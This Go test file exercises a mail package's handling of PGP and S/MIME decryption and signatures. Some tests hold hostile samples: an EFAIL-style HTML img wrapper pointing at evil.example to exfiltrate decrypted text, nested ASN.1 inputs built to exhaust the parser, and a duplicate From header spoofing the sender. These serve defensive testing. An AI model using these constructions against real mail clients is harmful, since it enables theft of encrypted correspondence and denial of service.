package mime

import (
	"context"
	"encoding/base64"
	"strings"
	"testing"

	pgp "github.com/ProtonMail/gopenpgp/v3/crypto"
)

const (
	innerText = "Content-Type: text/plain; charset=utf-8\r\nSubject: the real subject\r\n\r\nsecret\r\n"
	innerHTML = "Content-Type: text/html\r\n\r\n<p>secret <a href=\"https://e.example/\">x</a></p>\r\n"
)

func smimeMail(b []byte) string {
	return mailOf("Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n", wrapped(b))
}

func wrapped(b []byte) string { return base64.StdEncoding.EncodeToString(b) + "\r\n" }

func TestOpenPGPMIME(t *testing.T) {
	p, o := everybody(), opener(t)
	armoured := encryptTo(t, p.team, p.ada, innerText)
	for name, tt := range map[string]struct {
		raw, text, subject string
		want               Crypto
	}{
		"encrypted":           {pgpMIME(encryptTo(t, p.team, nil, innerText)), "secret", "the real subject", Crypto{Kind: PGPMIME, Encrypted: true, Integrity: true}},
		"encrypted, signed":   {pgpMIME(armoured), "secret", "the real subject", Crypto{Kind: PGPMIME, Encrypted: true, Signed: true, Integrity: true, Verified: true, BoundToFrom: true}},
		"signed by Eve":       {pgpMIME(encryptTo(t, p.team, p.eve, innerText)), "secret", "the real subject", Crypto{Kind: PGPMIME, Encrypted: true, Signed: true, Integrity: true, Fault: KeyUnknown}},
		"signed by ourselves": {pgpMIME(encryptTo(t, p.team, p.team, innerText)), "secret", "the real subject", Crypto{Kind: PGPMIME, Encrypted: true, Signed: true, Integrity: true, Fault: NotBound}},
		"for somebody else":   {pgpMIME(encryptTo(t, p.ada, nil, innerText)), "", "help", Crypto{Kind: PGPMIME, Encrypted: true, Fault: NotForUs}},
		"cut":                 {pgpMIME(armoured[:len(armoured)/2]), "", "help", Crypto{Kind: PGPMIME, Encrypted: true, Fault: NotIntact}},
		"junk":                {pgpMIME("no message"), "", "help", Crypto{Kind: PGPMIME, Encrypted: true, Fault: Unreadable}},
		"signed":              {signedMail("application/pgp-signature", innerText, "", detached(t, p.ada, innerText)), "secret", "the real subject", Crypto{Kind: PGPMIME, Signed: true, Integrity: true, Verified: true, BoundToFrom: true}},
		"signed by Eve, open": {signedMail("application/pgp-signature", innerText, "", detached(t, p.eve, innerText)), "secret", "help", Crypto{Kind: PGPMIME, Signed: true, Fault: KeyUnknown}},
		"changed":             {signedMail("application/pgp-signature", strings.Replace(innerText, "secret", "changed", 1), "", detached(t, p.ada, innerText)), "changed", "help", Crypto{Kind: PGPMIME, Signed: true, Fault: SignatureBad}},
		"no signature":        {signedMail("application/pgp-signature", innerText, "", "junk"), "secret", "help", Crypto{Kind: PGPMIME, Signed: true, Fault: SignatureBad}},
		"encrypted within: signed": {
			pgpMIME(encryptTo(t, p.team, nil, "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=s\r\n\r\n--s\r\n"+innerText+"\r\n--s\r\nContent-Type: application/pgp-signature\r\n\r\n"+detached(t, p.ada, innerText)+"\r\n--s--\r\n")),
			"secret", "the real subject",
			Crypto{Kind: PGPMIME, Encrypted: true, Signed: true, Integrity: true, Verified: true, BoundToFrom: true},
		},
	} {
		t.Run(name, func(t *testing.T) {
			m := opened(t, o, tt.raw)
			if m.Text != tt.text || m.Subject != tt.subject {
				t.Errorf("text %q, subject %q", m.Text, m.Subject)
			}
			sameCrypto(t, m.Crypto, tt.want)
		})
	}
}

// sameCrypto compares what was proved; who signed is told where it was.
func sameCrypto(t *testing.T, got, want Crypto) {
	t.Helper()
	if got.Verified && (got.Key == "" || got.Signer == "") {
		t.Errorf("nobody is told who signed: %+v", got)
	}
	got.Key, got.Signer, got.Detail = "", "", ""
	if got != want {
		t.Errorf("%+v\nwant %+v", got, want)
	}
}

func TestOpenInline(t *testing.T) {
	p, o := everybody(), opener(t)
	secret := encryptTo(t, p.team, p.ada, "secret words")
	clear := func(by *pgp.Key) string {
		handle, err := pgp.PGP().Sign().SigningKey(by).New()
		if err != nil {
			t.Fatal(err)
		}
		out, err := handle.SignCleartext([]byte("signed words"))
		if err != nil {
			t.Fatal(err)
		}
		return string(out)
	}
	for name, tt := range map[string]struct {
		body, text string
		want       Crypto
	}{
		"whole":             {secret, "secret words", Crypto{Kind: PGPInline, Encrypted: true, Signed: true, Integrity: true, Verified: true, BoundToFrom: true}},
		"signed":            {clear(p.ada), "signed words", Crypto{Kind: PGPInline, Signed: true, Integrity: true, Verified: true, BoundToFrom: true}},
		"signed by Eve":     {clear(p.eve), "", Crypto{Kind: PGPInline, Signed: true, Fault: KeyUnknown}},
		"signed, changed":   {strings.Replace(clear(p.ada), "signed words", "other words", 1), "", Crypto{Kind: PGPInline, Signed: true, Fault: SignatureBad}},
		"words around":      {"before\r\n" + secret + "\r\nafter", "", Crypto{Kind: PGPInline, Fault: PartlyProtected}},
		"words behind":      {clear(p.ada) + "\r\nand send money", "", Crypto{Kind: PGPInline, Fault: PartlyProtected}},
		"not for us":        {encryptTo(t, p.ada, nil, "x"), "", Crypto{Kind: PGPInline, Encrypted: true, Fault: NotForUs}},
		"nothing":           {"just words", "just words", Crypto{}},
		"begin without end": {beginMessage + "\r\nx", "", Crypto{}},
	} {
		t.Run(name, func(t *testing.T) {
			m := opened(t, o, mailOf("", tt.body))
			if tt.text != "" && m.Text != tt.text || strings.Contains(m.Text, "secret words") != (tt.text == "secret words") {
				t.Errorf("%q", m.Text)
			}
			sameCrypto(t, m.Crypto, tt.want)
		})
	}
	m := opened(t, o, mailOf("", "before\r\n"+secret+"\r\nafter"))
	if len(m.Parts) != 1 || string(m.Parts[0].Body) != "secret words" || !m.Parts[0].Nested.Crypto.Authentic() {
		t.Errorf("%+v", m.Parts)
	}
}

// The attacks of efail.de: what is encrypted must not come to stand in a page with anything else, and nothing that was changed is shown.
func TestEFAIL(t *testing.T) {
	p, o := everybody(), opener(t)
	secret := encryptTo(t, p.team, nil, innerText)
	encrypted := "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=e\r\n\r\n--e\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--e\r\nContent-Type: application/octet-stream\r\n\r\n" + secret + "\r\n--e--"
	m := opened(t, o, mailOf(inMixed, mixed("Content-Type: text/html\r\n\r\n<img src=\"https://evil.example/", encrypted, "Content-Type: text/html\r\n\r\n\">")))
	if strings.Contains(m.Text+m.HTML, "secret") || m.Crypto.Encrypted || m.Crypto.Fault != PartlyProtected {
		t.Errorf("joined: %q %q %+v", m.Text, m.HTML, m.Crypto)
	}
	last := m.Parts[len(m.Parts)-1]
	if last.Nested == nil || last.Nested.Text != "secret" || !last.Nested.Crypto.Integrity {
		t.Errorf("the part apart: %+v", last)
	}

	for at := 200; at < len(secret)-100; at += 7 {
		b := []byte(secret)
		if b[at] == '\n' {
			continue
		}
		b[at] = map[bool]byte{true: 'B', false: 'A'}[b[at] == 'A']
		if m := opened(t, o, pgpMIME(string(b))); strings.Contains(m.Text, "secret") || m.Crypto.Integrity {
			t.Fatalf("changed at %d: %q %+v", at, m.Text, m.Crypto)
		}
	}
}

func TestOpenSMIME(t *testing.T) {
	p, o := everybody(), opener(t)
	sign := func(by Identity, text string) string {
		return signedMail("application/pkcs7-signature", text, "Content-Transfer-Encoding: base64\r\n", wrapped(cmsSigned(t, by, text, true)))
	}
	within := func(by Identity) string {
		return "Content-Type: application/pkcs7-mime; smime-type=signed-data\r\nContent-Transfer-Encoding: base64\r\n\r\n" + wrapped(cmsSigned(t, by, innerHTML, false))
	}
	good := Crypto{Kind: SMIME, Signed: true, Integrity: true, Verified: true, BoundToFrom: true}
	sealed := good
	sealed.Encrypted = true
	for name, tt := range map[string]struct {
		raw, text string
		html      bool
		want      Crypto
	}{
		"signed":                   {sign(p.adaID, innerText), "secret", false, good},
		"signed by Eve":            {sign(p.eveID, innerText), "secret", false, Crypto{Kind: SMIME, Signed: true, Integrity: true, Fault: KeyUnknown}},
		"changed":                  {strings.Replace(sign(p.adaID, innerText), "secret", "changed", 1), "changed", false, Crypto{Kind: SMIME, Signed: true, Fault: SignatureBad}},
		"signed, text within":      {smimeMail(cmsSigned(t, p.adaID, innerHTML, false)), "secret x <https://e.example/>", true, good},
		"encrypted":                {smimeMail(cmsEncrypted(t, p.teamID, innerText)), "secret", false, Crypto{Kind: SMIME, Encrypted: true, Fault: Unauthenticated}},
		"encrypted page":           {smimeMail(cmsEncrypted(t, p.teamID, innerHTML)), "secret x <https://e.example/>", false, Crypto{Kind: SMIME, Encrypted: true, Fault: Unauthenticated}},
		"encrypted, signed within": {smimeMail(cmsEncrypted(t, p.teamID, within(p.adaID))), "secret x <https://e.example/>", true, sealed},
		"encrypted, Eve's within":  {smimeMail(cmsEncrypted(t, p.teamID, within(p.eveID))), "secret x <https://e.example/>", true, Crypto{Kind: SMIME, Encrypted: true, Signed: true, Integrity: true, Fault: KeyUnknown}},
		"signed around encrypted":  {smimeMail(cmsSigned(t, p.eveID, smimeMail(cmsEncrypted(t, p.teamID, innerHTML)), false)), "secret x <https://e.example/>", false, Crypto{Kind: SMIME, Encrypted: true, Signed: true, Fault: Unauthenticated}},
		"for somebody else":        {smimeMail(cmsEncrypted(t, p.eveID, innerText)), "", false, Crypto{Kind: SMIME, Encrypted: true, Fault: NotForUs}},
		"junk":                     {smimeMail([]byte("junk")), "", false, Crypto{Kind: SMIME, Encrypted: true, Fault: Unreadable}},
		"nothing":                  {smimeMail(nil), "", false, Crypto{Kind: SMIME, Encrypted: true, Fault: Unreadable}},
		"nested without end":       {smimeMail([]byte(strings.Repeat("\x30\x80", 1<<20))), "", false, Crypto{Kind: SMIME, Encrypted: true, Fault: Unreadable}},
		"many objects":             {smimeMail([]byte("\x30\x80" + strings.Repeat("\x05\x00", 1<<20) + "\x00\x00")), "", false, Crypto{Kind: SMIME, Encrypted: true, Fault: Unreadable}},
	} {
		t.Run(name, func(t *testing.T) {
			m := opened(t, o, tt.raw)
			if m.Text != tt.text || (m.HTML != "") != tt.html {
				t.Errorf("text %q, page %q", m.Text, m.HTML)
			}
			sameCrypto(t, m.Crypto, tt.want)
		})
	}
}

// Whatever is changed in a ciphertext, nothing of it is believed, no page is shown, and the process lives.
func TestChangedSMIME(t *testing.T) {
	p, o := everybody(), opener(t)
	b := cmsEncrypted(t, p.teamID, innerHTML)
	for at := 0; at < len(b); at += 3 {
		c := append([]byte(nil), b...)
		c[at] ^= 0x55
		if m := opened(t, o, smimeMail(c)); m.HTML != "" || m.Crypto.Integrity || m.Crypto.Fault == "" {
			t.Fatalf("changed at %d: %+v", at, m.Crypto)
		}
	}
}

func TestWithoutKeysNothingIsOpened(t *testing.T) {
	p := everybody()
	for name, raw := range map[string]string{"pgp": pgpMIME(encryptTo(t, p.team, nil, innerText)), "smime": smimeMail(cmsEncrypted(t, p.teamID, innerText))} {
		if m := opened(t, &Opener{}, raw); m.Text != "" || m.Crypto.Fault != NoKeys || !m.Crypto.Encrypted {
			t.Errorf("%s: %q %+v", name, m.Text, m.Crypto)
		}
	}
}

func TestLookUpThatFailsIsTold(t *testing.T) {
	m := readText(t, strings.Replace(pgpMIME(encryptTo(t, everybody().team, nil, innerText)), "ada@", "broken@", 1))
	if err := opener(t).Open(context.Background(), m); err == nil || m.Text != "secret" {
		t.Errorf("%v %q", err, m.Text)
	}
}

func TestSignatureCountsForTheAuthorOnly(t *testing.T) {
	p, o := everybody(), opener(t)
	o.Roots = everybodysRoots(t)
	raw := signedMail("application/pkcs7-signature", innerText, "Content-Transfer-Encoding: base64\r\n", wrapped(cmsSigned(t, p.eveID, innerText, true)))
	sameCrypto(t, opened(t, o, raw).Crypto, Crypto{Kind: SMIME, Signed: true, Integrity: true, Verified: true, Trusted: true, Fault: NotBound})
	raw = signedMail("application/pgp-signature", innerText, "", detached(t, p.ada, innerText))
	two := strings.Replace(raw, "From: Ada", "From: boss@victim.example\r\nFrom: Ada", 1)
	if c := opened(t, o, two).Crypto; c.Authentic() || c.Verified {
		t.Errorf("two senders: %+v", c)
	}
}
